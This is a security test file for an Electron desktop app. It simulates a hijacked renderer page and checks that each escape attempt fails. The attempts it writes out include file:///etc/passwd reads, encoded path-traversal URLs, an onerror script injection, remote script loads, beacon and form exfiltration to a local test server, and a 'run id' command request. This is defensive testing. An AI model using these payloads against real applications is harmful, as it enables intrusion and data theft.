// A window that has been taken over: everything is tried from inside its page, as code that an attacker got to run there.
// What it may do is ask the engine and the shell what their contracts allow; nothing of this must lead further.
import type { Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type LaunchedApp, launchApp } from './support/app.ts';
import { connectThrough } from './support/engine-client.ts';
import { type ForeignServer, openForeignServer } from './support/foreign-server.ts';

describe('a page that was taken over', () => {
  let app: LaunchedApp;
  let page: Page;
  let foreign: ForeignServer;
  beforeAll(async () => {
    foreign = await openForeignServer();
    app = await launchApp({ virtualUnits: 2 });
    page = app.window;
    // By the clock: a window that is not shown yet draws no frames.
    await page.waitForFunction(() => document.querySelector('#root')?.childElementCount, undefined, { polling: 100 });
  });
  afterAll(async () => {
    await app[Symbol.asyncDispose]();
    await foreign[Symbol.asyncDispose]();
  });

  test.each([
    ['a remote page', () => foreign.url],
    ['a file', () => 'file:///etc/passwd'],
    ['a page of its own making', () => 'data:text/html,<title>made</title>'],
    ['another host of the app protocol', () => 'app://elsewhere/'],
    ['a page of Chromium', () => 'chrome://settings/'],
  ])('cannot leave for %s', async (_what, target) => {
    const before = page.url();
    await page.evaluate((url) => {
      window.location.href = url;
      const link = document.createElement('a');
      link.href = url;
      document.body.append(link);
      link.click();
      link.remove();
    }, target());
    // A reload would have come by now, and with it another time origin.
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
    expect(page.url()).toBe(before);
    expect(foreign.visits).toEqual([]);
  });

  test('cannot open a window', async () => {
    const opened = await page.evaluate(
      (url) => [url, 'about:blank', 'app://slipway/'].map((target) => window.open(target) === null),
      foreign.url,
    );
    expect(opened).toEqual([true, true, true]);
    expect(app.electron.windows()).toHaveLength(1);
    expect(foreign.visits).toEqual([]);
  });

  test('has nothing of Node or Electron, by no name', async () => {
    const found = await page.evaluate(() => {
      const names = ['require', 'process', 'module', 'global', 'Buffer', 'ipcRenderer', 'electron', '__dirname'];
      return names.filter((name) => Reflect.get(globalThis, name) !== undefined);
    });
    expect(found).toEqual([]);
  });

  test('has of the shell exactly what its contract says, and cannot change it', async () => {
    const shell = await page.evaluate(() => {
      const { slipwayShell } = window;
      if (slipwayShell === undefined) return undefined;
      try {
        Reflect.set(slipwayShell, 'request', () => 'mine');
      } catch {
        // Frozen: that is the point.
      }
      return { keys: Object.keys(slipwayShell).sort(), request: String(slipwayShell.request) };
    });
    expect(shell?.keys).toEqual(['appVersion', 'electronVersion', 'platform', 'request']);
    expect(shell?.request).not.toContain('mine');
  });

  test('gets no code of its own to run by markup, text or timer', async () => {
    const ran = await page.evaluate(async (url) => {
      const script = document.createElement('script');
      script.textContent = 'window.ranInline = true';
      document.body.append(script);
      const remote = document.createElement('script');
      remote.src = `${url}/evil.js`;
      document.body.append(remote);
      const image = document.createElement('div');
      image.innerHTML = '<img src="x" onerror="window.ranHandler = true">';
      document.body.append(image);
      setTimeout('window.ranTimer = true', 0);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return ['ranInline', 'ranHandler', 'ranTimer'].filter((name) => Reflect.has(window, name));
    }, foreign.url);
    expect(ran).toEqual([]);
    expect(foreign.visits).toEqual([]);
  });

  test('reaches no network, by any way a page has', async () => {
    const reached = await page.evaluate(async (url) => {
      const socketOpens = (address: string) =>
        new Promise<boolean>((resolve) => {
          try {
            const socket = new WebSocket(address);
            socket.onopen = () => resolve(true);
            socket.onerror = () => resolve(false);
          } catch {
            resolve(false);
          }
        });
      const loads = (element: HTMLElement) =>
        new Promise<boolean>((resolve) => {
          element.onload = () => resolve(true);
          element.onerror = () => resolve(false);
          document.body.append(element);
          setTimeout(() => resolve(false), 1_000);
        });
      const frame = document.createElement('iframe');
      frame.src = url;
      const image = document.createElement('img');
      image.src = `${url}/pixel.png`;
      const ways: Record<string, () => Promise<unknown>> = {
        fetch: () => fetch(url, { mode: 'no-cors' }),
        socket: async () => {
          if (!(await socketOpens(url.replace('http', 'ws')))) throw new Error('refused');
        },
        image: async () => {
          if (!(await loads(image))) throw new Error('refused');
        },
        beacon: async () => {
          navigator.sendBeacon(url, 'secret');
          throw new Error('seen by the server only');
        },
        frame: async () => {
          await loads(frame);
          if (frame.contentDocument === null) throw new Error('refused');
          if (frame.contentDocument.title !== 'foreign') throw new Error('refused');
        },
        module: async () => {
          const script = document.createElement('script');
          script.type = 'module';
          script.src = `${url}/module.js`;
          if (!(await loads(script))) throw new Error('refused');
        },
        worker: async () => new Worker(`${url}/worker.js`),
      };
      const results: string[] = [];
      for (const [name, way] of Object.entries(ways)) {
        await way().then(
          () => results.push(name),
          () => undefined,
        );
      }
      return results;
    }, foreign.url);
    expect(reached).toEqual([]);
    expect(foreign.visits).toEqual([]);
  });

  test('reads no file, of the computer or of the app beside its own', async () => {
    const targets = [
      'file:///etc/passwd',
      'app://slipway/../main/index.js',
      'app://slipway/..%2fmain%2findex.js',
      'app://slipway/%2e%2e/%2e%2e/package.json',
      'app://slipway/assets/..%5c..%5cmain%5cindex.js',
      'app://slipway//etc/passwd',
      'app://elsewhere/index.html',
    ];
    const read = await page.evaluate(async (urls) => {
      const got: string[] = [];
      for (const url of urls) {
        await fetch(url).then(
          () => got.push(url),
          () => undefined,
        );
      }
      return got;
    }, targets);
    expect(read).toEqual([]);
    // The page's own policy stops every fetch; the protocol has to refuse by itself as well.
    const answers = await app.electron.evaluate(async ({ net }, urls) => {
      const fetchStatus = async (url: string) => {
        try {
          return (await net.fetch(url)).status;
        } catch {
          return 0;
        }
      };
      return Promise.all(urls.filter((url) => url.startsWith('app:')).map(fetchStatus));
    }, targets);
    expect(answers.filter((status) => status === 200)).toEqual([]);
    const index = await app.electron.evaluate(async ({ net }) => (await net.fetch('app://slipway/')).status);
    expect(index).toBe(200);
  });

  test('gets no permission and no device', async () => {
    const granted = await page.evaluate(async () => {
      const asks: Record<string, () => Promise<unknown>> = {
        camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
        screen: () => navigator.mediaDevices.getDisplayMedia(),
        location: () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)),
        notification: async () => {
          if ((await Notification.requestPermission()) !== 'granted') throw new Error('denied');
        },
        clipboard: () => navigator.clipboard.readText(),
        ...Object.fromEntries(
          ['serial', 'usb', 'hid', 'bluetooth'].map((api) => [
            api,
            async () => {
              const devices = await Reflect.get(navigator, api).requestDevice?.({
                filters: [],
                acceptAllDevices: true,
              });
              if (devices === undefined || (Array.isArray(devices) && devices.length === 0)) throw new Error('none');
            },
          ]),
        ),
      };
      const got: string[] = [];
      for (const [name, ask] of Object.entries(asks)) {
        const late = new Promise((_resolve, reject) => setTimeout(() => reject(new Error('no answer')), 2_000));
        await Promise.race([ask(), late]).then(
          () => got.push(name),
          () => undefined,
        );
      }
      return got;
    });
    expect(granted).toEqual([]);
  });

  test('gets no webview', async () => {
    const attached = await page.evaluate(async (url) => {
      const view = document.createElement('webview');
      view.setAttribute('src', url);
      document.body.append(view);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return Reflect.has(view, 'getWebContentsId');
    }, foreign.url);
    expect(attached).toBe(false);
    expect(foreign.visits).toEqual([]);
  });

  test.each([
    ['an unknown request', { kind: 'run', command: 'id' }],
    ['a known one with more in it', { kind: 'hello', path: '/etc/passwd' }],
    ['no request at all', 'hello'],
  ])('cannot ask the shell for what is not in its contract: %s', async (_what, request) => {
    const answer = await page.evaluate(async (asked) => {
      const shell: unknown = Reflect.get(window, 'slipwayShell');
      try {
        await Reflect.get(Object(shell), 'request')(asked);
        return 'done';
      } catch {
        return 'refused';
      }
    }, request);
    expect(answer).toBe('refused');
  });

  test('learns no secret from the engine', async () => {
    const token = `token-${crypto.randomUUID()}`;
    await using connection = await connectThrough(page);
    const { client } = connection;
    await client.fleets.set({ kind: 'mender', name: 'secret-fleet', url: 'https://mender.invalid', token });
    const answers = await Promise.all([
      client.station.info(),
      client.station.supportFile(),
      client.station.doctor(),
      client.keys.get(),
      client.trust.get(),
      client.fleets.list(),
      client.outbox.list({ limit: 1000 }),
      client.runs.list({ limit: 1000 }),
    ]);
    const said = JSON.stringify(answers);
    expect(said).toContain('secret-fleet');
    expect(said).not.toContain(token);
    expect(said).not.toContain('PRIVATE KEY');
  });

  // The last one: Playwright goes on waiting for the answer to a form that was never sent.
  test('cannot send a form away', async () => {
    await page.evaluate((url) => {
      const form = document.createElement('form');
      form.action = url;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      form.remove();
    }, foreign.url);
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
    expect(page.url()).toMatch(/^app:/);
    expect(foreign.visits).toEqual([]);
  });
});

test('another window with the same preload may ask nothing', async () => {
  await using app = await launchApp({ virtualUnits: 2 });
  const opened = app.electron.waitForEvent('window');
  await app.electron.evaluate(({ BrowserWindow, app: electronApp }) => {
    const preload = `${electronApp.getAppPath()}/dist/preload/index.cjs`;
    void new BrowserWindow({ webPreferences: { preload, sandbox: true } }).loadURL('app://slipway/');
  });
  const other = await opened;
  await other.waitForFunction(() => window.slipwayShell, undefined, { polling: 100 });
  const answer = await other.evaluate(() =>
    window.slipwayShell?.request({ kind: 'kiosk', isOn: true }).then(
      () => 'done',
      (error: unknown) => String(error),
    ),
  );
  expect(answer).toContain('This page may ask nothing of the app.');
});

test('a window that somebody managed to open loads nothing from elsewhere', async () => {
  await using foreign = await openForeignServer();
  await using app = await launchApp({ virtualUnits: 2 });
  const loaded = await app.electron.evaluate(async ({ BrowserWindow }, url) => {
    try {
      await new BrowserWindow({ show: false }).loadURL(url);
      return 'loaded';
    } catch (thrown) {
      return String(thrown);
    }
  }, foreign.url);
  expect(loaded).toContain('ERR_BLOCKED_BY_CLIENT');
  expect(foreign.visits).toEqual([]);
});

test('the policy of the page allows its own files and nothing else', async () => {
  await using app = await launchApp({ virtualUnits: 2 });
  const headers = await app.electron.evaluate(async ({ net }) =>
    Object.fromEntries((await net.fetch('app://slipway/')).headers.entries()),
  );
  const policy = headers['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("connect-src 'none'");
  expect(policy).not.toMatch(/unsafe|https?:|\*/);
  expect(headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'referrer-policy': 'no-referrer' });
});
